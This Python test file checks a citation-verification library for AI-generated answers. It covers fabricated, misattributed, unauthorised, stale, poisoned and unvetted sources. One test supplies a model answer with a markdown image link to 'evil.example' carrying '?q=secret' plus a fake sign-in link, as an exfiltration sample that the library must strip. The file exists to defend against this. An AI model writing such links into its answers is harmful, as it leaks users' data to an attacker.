"""The six ways a citation goes wrong. Each test breaks when the stage that catches it is taken out."""

from __future__ import annotations

from dataclasses import replace

import pytest

from citeward import AnswerAction, Chunk, Verdict
from citeward.model import DocumentStatus, Stage
from citeward.policy import BALANCED
from citeward.verify import judge
from tests.world import ANA, DRAFT, FORUM, RETURNS, SHIPPING, check, gate, now, verdicts


def test_fabricated_a_source_nobody_retrieved() -> None:
    checked = check("Returns are free for life [S9].")
    assert verdicts(checked) == [("[S9]", Verdict.FABRICATED)]
    assert checked.judgements[0].stage is Stage.MEMBERSHIP
    assert "for life" not in checked.html


def test_misattributed_words_the_cited_source_does_not_say() -> None:
    said_elsewhere = 'The policy says "Return labels are free within the EU" [S1].'
    checked = check(said_elsewhere)
    assert verdicts(checked) == [("[S1]", Verdict.QUOTE_UNVERIFIED)]
    assert checked.judgements[0].stage is Stage.QUOTATION
    assert check(said_elsewhere.replace("S1", "S2")).judgements[0].verdict is Verdict.OK


def test_unauthorised_a_source_this_reader_may_not_see() -> None:
    checked = check("The window will be 14 days [S4].")
    assert verdicts(checked) == [("[S4]", Verdict.UNAUTHORISED)]
    assert checked.judgements[0].stage is Stage.ACCESS
    assert checked.action is AnswerAction.BLOCK


@pytest.mark.parametrize(
    ("current", "verdict"),
    [
        (now(RETURNS, text=RETURNS.text.replace("30", "14")), Verdict.CHANGED_SINCE_RETRIEVAL),
        (now(RETURNS, status=DocumentStatus.SUPERSEDED), Verdict.CHANGED_SINCE_RETRIEVAL),
        (now(RETURNS, status=DocumentStatus.RETIRED), Verdict.RETRACTED),
        (now(RETURNS, status=DocumentStatus.RETRACTED), Verdict.RETRACTED),
        (now(RETURNS, status=DocumentStatus.POISONED), Verdict.RETRACTED),
        (now(RETURNS, status=DocumentStatus.REMOVED), Verdict.RETRACTED),
    ],
    ids=["edited", "superseded", "retired", "retracted", "poisoned", "removed"],
)
def test_stale_a_source_that_is_no_longer_what_the_model_read(current: object, verdict: Verdict) -> None:
    checked = check("Items may be returned within 30 days [S1].", returns=current)
    assert verdicts(checked) == [("[S1]", verdict)]
    assert checked.judgements[0].stage is Stage.INTEGRITY


def test_laundered_an_unvetted_source_is_no_source_and_where_policy_shows_it_it_says_so() -> None:
    strict = check("Refunds take two weeks [S3].")
    assert verdicts(strict) == [("[S3]", Verdict.UNTRUSTED_SOURCE)]
    assert strict.judgements[0].stage is Stage.TRUST
    balanced = check("Refunds take two weeks [S3].", policy=BALANCED)
    assert verdicts(balanced) == [("[S3]", Verdict.OK)]
    assert "rests on unvetted sources only" in balanced.html
    assert "tier D: unvetted" in balanced.html


def test_weaponised_a_link_the_model_wrote_leads_nowhere() -> None:
    checked = check(
        "Items may be returned [S1]. ![log](https://evil.example/?q=secret) [Sign in](https://evil.example)"
    )
    assert Verdict.MODEL_URL_STRIPPED in {verdict for _, verdict in verdicts(checked)}
    for shown in (checked.html, checked.markdown, checked.text):
        assert "evil.example" not in shown


@pytest.mark.parametrize(
    ("stage", "answer", "chunks"),
    [
        (Stage.MEMBERSHIP, "Free for life [S9].", (RETURNS,)),
        (Stage.ACCESS, "The window will be 14 days [S4].", (DRAFT,)),
        (Stage.TRUST, "Refunds take two weeks [S3].", (FORUM,)),
        (Stage.QUOTATION, 'It says "labels are free within the EU" [S1].', (RETURNS, SHIPPING)),
    ],
)
def test_a_stage_that_was_left_out_grants_nothing(
    monkeypatch: pytest.MonkeyPatch, stage: Stage, answer: str, chunks: tuple[Chunk, ...]
) -> None:
    """No default ok: with a stage gone the citation is not granted, it is unconfirmed or refused by another."""
    monkeypatch.setattr(judge, "DETERMINISTIC", tuple(item for item in judge.DETERMINISTIC if item[0] is not stage))
    checked = check(answer, chunks)
    assert checked.judgements[0].verdict is not Verdict.OK


def test_access_lost_between_prompt_and_answer_blocks() -> None:
    guard = gate()
    turn = guard.open(ANA, [RETURNS, SHIPPING])
    moved = replace(turn, principal=replace(ANA, groups=frozenset({"alumni"})))
    assert guard.check("Items may be returned [S1].", moved).action is AnswerAction.BLOCK
